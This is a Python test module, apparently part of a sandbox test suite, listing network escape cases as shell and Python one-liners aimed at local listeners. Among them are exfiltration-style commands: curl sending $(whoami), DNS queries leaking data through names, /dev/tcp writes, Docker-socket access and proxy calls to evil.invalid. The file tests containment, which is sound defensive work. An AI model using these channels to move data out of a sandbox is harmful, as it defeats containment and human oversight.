"""Attacks over the network and over sockets of the machine; every ear is outside the walls."""

from __future__ import annotations

from tests.hostile.case import python, shell

NETWORK = [
    shell("curl", "curl -sm 3 http://127.0.0.1:@TCP/?d=$(whoami)", "1.2 tcp connect"),
    shell("dev-tcp", "exec 3<>/dev/tcp/127.0.0.1/@TCP && echo hi >&3", "1.2 tcp connect"),
    shell("dev-udp", "echo hi > /dev/udp/127.0.0.1/@UDP", "1.2 udp send"),
    python("tcp", "import socket; socket.create_connection(('127.0.0.1', @TCP), 3).send(b'x')", "1.2 tcp connect"),
    python("tcp6", "import socket; socket.create_connection(('::1', @TCP6), 3).send(b'x')", "1.2 tcp connect"),
    python("tcp-mapped", "import socket; s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', @TCP)); s.send(b'x')"),
    python("tcp-non-blocking", "import socket, time; s = socket.socket(); s.setblocking(False); s.connect_ex(('127.0.0.1', @TCP)); time.sleep(.2); s.send(b'x')"),
    python("tcp-fast-open", "import socket; socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', @TCP))"),
    python("mptcp", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', @TCP)); s.send(b'x')", proof="a kernel may not have it"),
    python("udp", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @UDP))", "1.2 udp send"),
    python("udp-lite", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'x', ('127.0.0.1', @UDP))", proof="a kernel may not have it"),
    python(
        "dns-query",
        r"""
        import socket
        name = b''.join(bytes([len(p)]) + p for p in (b'LEAK-in-a-name', b'evil', b'invalid'))
        query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + name + b'\0\0\1\0\1'
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', @UDP))
        """,
        "5",
    ),
    shell("name-lookup", "getent hosts leak-$(whoami).127.0.0.1.invalid; timeout 2 nslookup x 127.0.0.1; timeout 2 ping -c1 -W1 127.0.0.1 && echo REACHED", "5", proof="needs a resolver or ping to be seen"),
    python("raw-icmp", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('127.0.0.1', 0)); print('REACHED')", "5", proof="root only"),
    python("packet", "import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300); s.bind(('lo', 0)); s.send(bytes(64)); print('REACHED')", proof="root only"),
    python("vsock", "import socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); print('REACHED')", proof="a kernel may not have it"),
    python("netlink-audit", "import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9); print('REACHED')", proof="a kernel may not have it"),
    python("alg", "import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).bind(('hash', 'sha256')); print('REACHED')", proof="a kernel may not have it"),
    python("io-uring", "import ctypes; print('REACHED' if ctypes.CDLL(None).syscall(425, 4, (ctypes.c_char * 120)()) >= 0 else 'refused')", "1.2 io_uring_setup", proof="a kernel may have it switched off"),
    python("socketcall-x32", "import ctypes; print('REACHED' if ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 1, 0) >= 0 else 'refused')", proof="a kernel may not have it"),
    python("unix-path", "import socket; s = socket.socket(socket.AF_UNIX); s.connect('@DOCKER'); s.send(b'x')", "1.2 unix path socket"),
    python("unix-home", "import socket; s = socket.socket(socket.AF_UNIX); s.connect('@RUNTIME'); s.send(b'x')", "1.2 unix path socket"),
    python("unix-run", "import socket; s = socket.socket(socket.AF_UNIX); s.connect('@RUN'); s.send(b'x')", "1.2 unix path socket", proof="/run must be writable by the test"),
    python("unix-symlink", "import os, socket; os.symlink('@RUN', 'l'); s = socket.socket(socket.AF_UNIX); s.connect('l')", "1.2 unix path socket", proof="/run must be writable by the test"),
    shell("curl-unix", "curl -sm 2 --unix-socket @RUN http://x/containers/json", "1.2 unix path socket", proof="/run must be writable by the test"),
    python("abstract", "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0@ABSTRACT'); s.send(b'x')", "1.2 abstract unix socket"),
    shell("proxy", "http_proxy=http://127.0.0.1:@TCP curl -sm 3 http://evil.invalid/"),
    shell("git-fetch", "git -c protocol.ext.allow=always clone -q http://127.0.0.1:@TCP/x.git y; git ls-remote git://127.0.0.1:@TCP/x", "20"),
    shell("pip", "python3 -m pip --disable-pip-version-check --retries 0 --timeout 2 download -q --index-url http://127.0.0.1:@TCP/simple --no-deps nothing-at-all", proof="pip may not be there"),
    shell("node", "node -e \"require('net').connect(@TCP,'127.0.0.1').write('x')\"", proof="node may not be there"),
    shell("perl", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:@TCP\")->print(1)'", proof="perl may not be there"),
    shell("background", "(sleep 0.3; echo x > /dev/tcp/127.0.0.1/@TCP) >/dev/null 2>&1 &", settle=0.7),
    shell("all-interfaces", "for a in $(cat /proc/net/fib_trie 2>/dev/null | grep -oE '[0-9]+(\\.[0-9]+){3}' | sort -u | head -20) 0.0.0.0 localhost; do timeout 1 bash -c \"echo x > /dev/tcp/$a/@TCP\"; done 2>/dev/null"),
    shell("new-network-namespace", "unshare -rn sh -c 'ip link set lo up; echo REACHED' ", "1.2 unshare userns"),
]  # fmt: skip
